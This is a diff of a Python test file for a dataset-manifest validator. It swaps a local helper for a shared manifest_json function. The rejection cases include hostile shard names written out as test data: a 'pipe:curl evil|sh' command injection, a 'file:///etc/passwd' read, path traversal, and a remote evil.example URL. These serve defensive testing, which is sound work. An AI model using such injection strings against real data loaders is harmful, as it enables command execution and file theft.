@@ -24,6 +24,7 @@ from shardkit.format.tar import ShardReader
 from tests.support.data import (
     RecordingFile,
     jpeg_bytes,
+    manifest_json,
     member_ranges,
     tar_bytes,
     tree_snapshot,
@@ -158,18 +159,6 @@ def test_tar_tricks_touch_nothing_and_never_merge_samples(tmp_path, http_root, w
     assert not os.path.exists(tmp_path / "escape") and not os.path.exists("/abs/root")
 
 
-def _manifest(**over) -> str:
-    d = {
-        "format": "shardkit-manifest",
-        "version": 1,
-        "split": "train",
-        "classes": ["a"],
-        "shards": [{"name": "train-000000.tar", "samples": 1, "bytes": 10, "sha256": "0" * 64}],
-    }
-    d.update(over)
-    return json.dumps(d)
-
-
 def _shard(**over):
     return {"name": "train-000000.tar", "samples": 1, "bytes": 10, "sha256": "0" * 64, **over}
 
@@ -180,30 +169,30 @@ def _shard(**over):
         (b"\xff\xfe garbage", "not valid JSON"),
         ("[" * 100_000 + "]" * 100_000, "not valid JSON"),
         ("", "not valid JSON"),
-        (_manifest(version="1"), "version '1'"),
-        (_manifest(version=4), "version 4"),
-        (_manifest(shards=[_shard(samples=1 << 50)]), "impossible count"),
-        (_manifest(shards=[_shard(bytes=-5)]), "impossible count"),
-        (_manifest(shards=[_shard(samples=1.5)]), "wrong field types"),
-        (_manifest(shards=[_shard(samples=True)]), "wrong field types"),
-        (_manifest(shards={"name": "x"}), "malformed"),
-        (_manifest(shards=[_shard(), _shard()]), "listed twice"),
-        (_manifest(shards=[_shard(extra=1)]), "malformed"),
-        (_manifest(class_counts=[1e400]), "malformed"),
-        (_manifest(class_counts=["NaN"]), "malformed"),
-        (_manifest(class_counts=[-1]), "class_counts"),
-        (_manifest(classes="abc"), "classes"),
-        (_manifest(num_samples=5), "num_samples"),
-        (_manifest(shards=[_shard(name="file:///etc/passwd.tar")]), "not a plain file name"),
-        (_manifest(shards=[_shard(name="file:train.tar")]), "not a plain file name"),
-        (_manifest(shards=[_shard(name="..tar")]), "not a plain file name"),
-        (_manifest(shards=[_shard(name="a/../../b.tar")]), "not a plain file name"),
-        (_manifest(shards=[_shard(name="C:\\x.tar")]), "not a plain file name"),
-        (_manifest(shards=[_shard(name="pipe:curl evil|sh #.tar")]), "not a plain file name"),
-        (_manifest(shards=[_shard(name="https://evil.example/x.tar")]), "not a plain file name"),
-        (_manifest(shards=[_shard(name="train\n.tar")]), "not a plain file name"),
-        (_manifest(shards=[_shard(name="train-000000.tar\n")]), "not a plain file name"),
-        (_manifest(shards=[_shard(sha256="0" * 64 + "\n")]), "sha256"),
+        (manifest_json(version="1"), "version '1'"),
+        (manifest_json(version=4), "version 4"),
+        (manifest_json(shards=[_shard(samples=1 << 50)]), "impossible count"),
+        (manifest_json(shards=[_shard(bytes=-5)]), "impossible count"),
+        (manifest_json(shards=[_shard(samples=1.5)]), "wrong field types"),
+        (manifest_json(shards=[_shard(samples=True)]), "wrong field types"),
+        (manifest_json(shards={"name": "x"}), "malformed"),
+        (manifest_json(shards=[_shard(), _shard()]), "listed twice"),
+        (manifest_json(shards=[_shard(extra=1)]), "malformed"),
+        (manifest_json(class_counts=[1e400]), "malformed"),
+        (manifest_json(class_counts=["NaN"]), "malformed"),
+        (manifest_json(class_counts=[-1]), "class_counts"),
+        (manifest_json(classes="abc"), "classes"),
+        (manifest_json(num_samples=5), "num_samples"),
+        (manifest_json(shards=[_shard(name="file:///etc/passwd.tar")]), "not a plain file name"),
+        (manifest_json(shards=[_shard(name="file:train.tar")]), "not a plain file name"),
+        (manifest_json(shards=[_shard(name="..tar")]), "not a plain file name"),
+        (manifest_json(shards=[_shard(name="a/../../b.tar")]), "not a plain file name"),
+        (manifest_json(shards=[_shard(name="C:\\x.tar")]), "not a plain file name"),
+        (manifest_json(shards=[_shard(name="pipe:curl evil|sh #.tar")]), "not a plain file name"),
+        (manifest_json(shards=[_shard(name="https://evil.example/x.tar")]), "not a plain file name"),
+        (manifest_json(shards=[_shard(name="train\n.tar")]), "not a plain file name"),
+        (manifest_json(shards=[_shard(name="train-000000.tar\n")]), "not a plain file name"),
+        (manifest_json(shards=[_shard(sha256="0" * 64 + "\n")]), "sha256"),
     ],
 )
 def test_bad_manifests_refused_with_reason(text, match):
@@ -214,7 +203,7 @@ def test_bad_manifests_refused_with_reason(text, match):
 def test_manifest_huge_total_refused():
     shards = [_shard(name=f"t{i}.tar", samples=(1 << 40) - 1) for i in range(1 << 4)]
     with pytest.raises(ManifestError, match="impossible"):
-        Manifest.from_json(_manifest(shards=shards), url="mem://m.json")
+        Manifest.from_json(manifest_json(shards=shards), url="mem://m.json")
 
 
 def test_dataset_urls_that_run_commands_or_point_elsewhere_refused(tmp_path):
